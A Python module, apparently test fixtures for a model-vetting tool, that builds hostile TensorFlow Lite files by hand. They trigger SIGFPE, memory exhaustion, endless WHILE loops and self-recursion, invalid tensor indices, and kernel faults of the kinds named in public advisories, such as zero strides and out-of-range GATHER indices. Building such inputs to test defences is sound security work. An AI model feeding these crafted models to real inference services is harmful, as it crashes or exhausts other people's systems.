"""Small .tflite files, built operator by operator: what an attacker writes by hand."""

import json
from dataclasses import dataclass, field
from typing import Any

import numpy as np
from ai_edge_litert import schema_py_generated
from flatbuffers import Builder
from numpy.typing import ArrayLike

schema: Any = schema_py_generated
OPS, TYPES = schema.BuiltinOperator, schema.TensorType
UINT8, INT8, INT32, FLOAT32, BOOL = TYPES.UINT8, TYPES.INT8, TYPES.INT32, TYPES.FLOAT32, TYPES.BOOL
_NUMPY = {UINT8: np.uint8, INT8: np.int8, INT32: np.int32, FLOAT32: np.float32}
IMAGE = (1, 8, 8, 3)


@dataclass
class Crafted:
    """A file in the making. `tensor` and `step` return the numbers of tensors."""

    model: Any = field(default_factory=schema.ModelT)
    graph: Any = None

    def __post_init__(self) -> None:
        self.model.version, self.model.buffers, self.model.operatorCodes = 3, [schema.BufferT()], []
        self.model.subgraphs = []
        self.begin_graph()

    def begin_graph(self) -> None:
        """What follows goes into another graph of the file."""
        self.graph = schema.SubGraphT()
        self.graph.tensors, self.graph.operators, self.graph.inputs, self.graph.outputs = [], [], [], []
        self.model.subgraphs.append(self.graph)

    def tensor(
        self, shape: tuple[int, ...], kind: int = UINT8, values: ArrayLike | None = None, scale: float | None = None
    ) -> int:
        made = schema.TensorT()
        made.name, made.shape, made.type, made.buffer = b"t%d" % len(self.graph.tensors), list(shape), kind, 0
        if values is not None:
            buffer = schema.BufferT()
            buffer.data = np.frombuffer(np.asarray(values, _NUMPY[kind]).tobytes(), np.uint8)
            self.model.buffers.append(buffer)
            made.buffer = len(self.model.buffers) - 1
        if scale is not None:
            made.quantization = schema.QuantizationParametersT()
            made.quantization.scale, made.quantization.zeroPoint = [scale], [0]
        self.graph.tensors.append(made)
        return len(self.graph.tensors) - 1

    def constant(self, values: ArrayLike, kind: int = INT32) -> int:
        return self.tensor(np.shape(np.asarray(values)), kind, values)

    def step(self, code: int, inputs: list[int], outputs: list[int], options: Any = None, version: int = 1) -> int:
        kind, operator = schema.OperatorCodeT(), schema.OperatorT()
        kind.builtinCode, kind.deprecatedBuiltinCode, kind.version = code, min(code, 127), version
        self.model.operatorCodes.append(kind)
        operator.opcodeIndex = len(self.model.operatorCodes) - 1
        operator.inputs, operator.outputs = inputs, outputs
        if options is not None:
            operator.builtinOptions = options
            operator.builtinOptionsType = getattr(schema.BuiltinOptions, type(options).__name__.removesuffix("T"))
        self.graph.operators.append(operator)
        return outputs[0]

    def bytes(self, inputs: list[int], outputs: list[int]) -> bytes:
        """The file; borders are those of the first graph."""
        self.model.subgraphs[0].inputs, self.model.subgraphs[0].outputs = inputs, outputs
        builder = Builder(1024)
        builder.Finish(self.model.Pack(builder), b"TFL3")
        return bytes(builder.Output())


def with_contract(data: bytes) -> bytes:
    """The file with a contract that takes an 8x8 picture as it is, so that a picture chooses the tensor's numbers."""
    contract = {
        "schema": 1,
        "input": {"width": 8, "height": 8, "dtype": "uint8"},
        "preprocess": {"crop": "none", "crop_fraction": 1.0, "mean": [0, 0, 0], "std": [1, 1, 1]},
    }
    model = schema.ModelT.InitFromObj(schema.Model.GetRootAs(bytearray(data), 0))
    buffer, entry = schema.BufferT(), schema.MetadataT()
    buffer.data = np.frombuffer(json.dumps(contract).encode(), np.uint8)
    model.buffers.append(buffer)
    entry.name, entry.buffer = b"edgeguard.json", len(model.buffers) - 1
    model.metadata = [entry]
    builder = Builder(1024)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _sum_of_pixels(made: Crafted, image: int) -> int:
    """(1,) int32: all pixels together, so that a frame chooses a number."""
    integers = made.step(OPS.CAST, [image], [made.tensor(IMAGE, INT32)], schema.CastOptionsT())
    options = schema.ReducerOptionsT()
    flat = made.step(OPS.RESHAPE, [integers, made.constant([192])], [made.tensor((192,), INT32)])
    options.keepDims = True
    return made.step(OPS.SUM, [flat, made.constant([0])], [made.tensor((1,), INT32)], options)


def harmless(height: int = 8, width: int = 8, *, scale: float = 1.0) -> bytes:
    """The mean of each color, of the frame's every pixel, in steps of the scale."""
    made = Crafted()
    image = made.tensor((1, height, width, 3), scale=1.0)
    options = schema.ReducerOptionsT()
    mean = made.step(OPS.MEAN, [image, made.constant([1, 2])], [made.tensor((1, 3), scale=scale)], options)
    return made.bytes([image], [mean])


def divides() -> bytes:
    """The remainder of -2^31 by 1 less twice the sum of all pixels: nothing for zeros, SIGFPE where the sum is 1."""
    made = Crafted()
    image = made.tensor(IMAGE)
    total = _sum_of_pixels(made, image)
    twice = made.step(OPS.MUL, [total, made.constant([-2])], [made.tensor((1,), INT32)], schema.MulOptionsT())
    divisor = made.step(OPS.ADD, [twice, made.constant([1])], [made.tensor((1,), INT32)], schema.AddOptionsT())
    found = made.step(
        OPS.FLOOR_MOD, [made.constant([-(2**31)]), divisor], [made.tensor((1,), INT32)], schema.FloorModOptionsT()
    )
    return made.bytes([image], [_as_answer(made, found)])


def _as_answer(made: Crafted, number: int) -> int:
    """(1, 2) float32 of a (1,) int32."""
    real = made.step(OPS.CAST, [number], [made.tensor((1,), FLOAT32)], schema.CastOptionsT())
    return made.step(
        OPS.MUL, [made.constant([[1.0, 2.0]], FLOAT32), real], [made.tensor((1, 2), FLOAT32)], schema.MulOptionsT()
    )


def fills(factor: int = 4 << 20) -> bytes:
    """A tensor of `factor` times the sum of all pixels: nothing for a dark frame, gigabytes for a bright one."""
    made = Crafted()
    image = made.tensor(IMAGE)
    total = _sum_of_pixels(made, image)
    size = made.step(OPS.MUL, [total, made.constant([factor])], [made.tensor((1,), INT32)], schema.MulOptionsT())
    size = made.step(OPS.ADD, [size, made.constant([1])], [made.tensor((1,), INT32)], schema.AddOptionsT())
    filled = made.step(OPS.FILL, [size, made.constant(3)], [made.tensor((1,), INT32)], schema.FillOptionsT())
    options = schema.ReducerOptionsT()
    options.keepDims = True
    found = made.step(OPS.SUM, [filled, made.constant([0])], [made.tensor((1,), INT32)], options)
    return made.bytes([image], [_as_answer(made, found)])


def never_ends(always: bool = False) -> bytes:
    """A WHILE that goes on as long as its number is not below 1; it is the sum of all pixels (and 1 with `always`)."""
    made = Crafted()
    image = made.tensor(IMAGE)
    total = _sum_of_pixels(made, image)
    total = made.step(OPS.ADD, [total, made.constant([int(always)])], [made.tensor((1,), INT32)], schema.AddOptionsT())
    options = schema.WhileOptionsT()
    options.condSubgraphIndex, options.bodySubgraphIndex = 1, 2
    found = made.step(OPS.WHILE, [total], [made.tensor((1,), INT32)], options)
    answer = _as_answer(made, found)
    made.begin_graph()
    number = made.tensor((1,), INT32)
    goes_on = made.step(OPS.GREATER, [number, made.constant([0])], [made.tensor((1,), BOOL)], schema.GreaterOptionsT())
    made.graph.inputs, made.graph.outputs = [number], [goes_on]
    made.begin_graph()
    number = made.tensor((1,), INT32)
    same = made.step(
        OPS.MAXIMUM, [number, made.constant([0])], [made.tensor((1,), INT32)], schema.MaximumMinimumOptionsT()
    )
    made.graph.inputs, made.graph.outputs = [number], [same]
    return made.bytes([image], [answer])


def huge(side: int = 60000) -> bytes:
    """Constant paddings that make a picture of gigabytes of every frame; every operator is a usual one."""
    made = Crafted()
    image = made.tensor(IMAGE, scale=1.0)
    padded = made.step(
        OPS.PAD, [image, made.constant([[0, 0], [0, side], [0, side], [0, 0]])],
        [made.tensor((1, 8 + side, 8 + side, 3), scale=1.0)], schema.PadOptionsT(),
    )  # fmt: skip
    options = schema.ReducerOptionsT()
    mean = made.step(OPS.MEAN, [padded, made.constant([1, 2])], [made.tensor((1, 3), scale=1.0)], options)
    return made.bytes([image], [mean])


def strange_numbers(which: str) -> bytes:
    """A tensor's number that is none: in an operator (`input`, `output`) or on the graph's border (`border`)."""
    made = Crafted()
    image, answer = made.tensor(IMAGE, scale=1.0), made.tensor((1, 3), scale=1.0)
    axes = made.constant([1, 2])
    data = {"input": -1, "huge": 1 << 30}.get(which, image)
    made.step(OPS.MEAN, [data, axes], [-1 if which == "output" else answer], schema.ReducerOptionsT())
    return made.bytes([image], [-1 if which == "border" else answer])


def shared_name(tensors: int = 10_000, name_bytes: int = 1 << 20) -> bytes:
    """A small file in which every tensor has one long name: a reader that copies each would take gigabytes."""
    builder = Builder(name_bytes + (1 << 20))
    name = builder.CreateByteVector(b"n" * name_bytes)
    schema.TensorStart(builder)
    schema.TensorAddName(builder, name)
    tensor = schema.TensorEnd(builder)
    schema.SubGraphStartTensorsVector(builder, tensors)
    for _ in range(tensors):
        builder.PrependUOffsetTRelative(tensor)
    many = builder.EndVector()
    schema.SubGraphStart(builder)
    schema.SubGraphAddTensors(builder, many)
    graph = schema.SubGraphEnd(builder)
    schema.ModelStartSubgraphsVector(builder, 1)
    builder.PrependUOffsetTRelative(graph)
    graphs = builder.EndVector()
    schema.ModelStart(builder)
    schema.ModelAddVersion(builder, 3)
    schema.ModelAddSubgraphs(builder, graphs)
    builder.Finish(schema.ModelEnd(builder), b"TFL3")
    return bytes(builder.Output())


def relatives() -> dict[str, bytes]:
    """Kinds of public advisories on TensorFlow Lite's kernels: one file for each, named by operator and cause."""
    files = {}
    for name, code, options, fields in (
        ("DEPTH_TO_SPACE block 0", OPS.DEPTH_TO_SPACE, schema.DepthToSpaceOptionsT, {"blockSize": 0}),
        ("SPACE_TO_DEPTH block 0", OPS.SPACE_TO_DEPTH, schema.SpaceToDepthOptionsT, {"blockSize": 0}),
        ("AVERAGE_POOL_2D stride 0", OPS.AVERAGE_POOL_2D, schema.Pool2DOptionsT, {"filterWidth": 2, "filterHeight": 2}),
        ("MAX_POOL_2D filter 0", OPS.MAX_POOL_2D, schema.Pool2DOptionsT, {"strideW": 1, "strideH": 1}),
    ):
        made, chosen = Crafted(), options()
        vars(chosen).update(fields)
        image = made.tensor(IMAGE, scale=1.0)
        files[name] = made.bytes([image], [made.step(code, [image], [made.tensor(IMAGE, scale=1.0)], chosen)])
    for name, code, options, fields, depth in (
        ("CONV_2D stride 0", OPS.CONV_2D, schema.Conv2DOptionsT, {}, 3),
        ("CONV_2D no group", OPS.CONV_2D, schema.Conv2DOptionsT, {"strideW": 1, "strideH": 1}, 7),
        ("DEPTHWISE_CONV_2D stride 0", OPS.DEPTHWISE_CONV_2D, schema.DepthwiseConv2DOptionsT, {}, 3),
        (
            "DEPTHWISE_CONV_2D stride of 17 bits", OPS.DEPTHWISE_CONV_2D, schema.DepthwiseConv2DOptionsT,
            {"strideW": 1 << 16, "strideH": 1 << 16, "depthMultiplier": 1}, 3,
        ),
    ):  # fmt: skip
        made, chosen = Crafted(), options()
        vars(chosen).update(fields)
        shape = (1, 3, 3, depth)
        image, weights = made.tensor(IMAGE, FLOAT32), made.tensor(shape, FLOAT32, np.ones(shape))
        inputs = [image, weights, made.tensor((3,), FLOAT32, [0, 0, 0])]
        files[name] = made.bytes([image], [made.step(code, inputs, [made.tensor(IMAGE, FLOAT32)], chosen)])
    made, options = Crafted(), schema.SplitOptionsT()
    image = made.tensor(IMAGE, scale=1.0)
    found = made.step(OPS.SPLIT, [made.constant(3), image], [made.tensor(IMAGE, scale=1.0)], options)
    files["SPLIT into 0"] = made.bytes([image], [found])
    for name, index in (("GATHER index -1", -1), ("GATHER index 10^9", 10**9)):
        made = Crafted()
        image = made.tensor(IMAGE, FLOAT32)
        found = made.step(
            OPS.GATHER, [image, made.constant([index])], [made.tensor(IMAGE, FLOAT32)], schema.GatherOptionsT()
        )
        files[name] = made.bytes([image], [found])
    files["WHILE that calls itself"] = _calls_itself()
    return files


def _calls_itself() -> bytes:
    """The first graph holds a WHILE whose condition is the first graph: recursion without an end."""
    made, options = Crafted(), schema.WhileOptionsT()
    image = made.tensor(IMAGE)
    options.condSubgraphIndex = options.bodySubgraphIndex = 0
    return made.bytes([image], [made.step(OPS.WHILE, [image], [made.tensor(IMAGE)], options)])
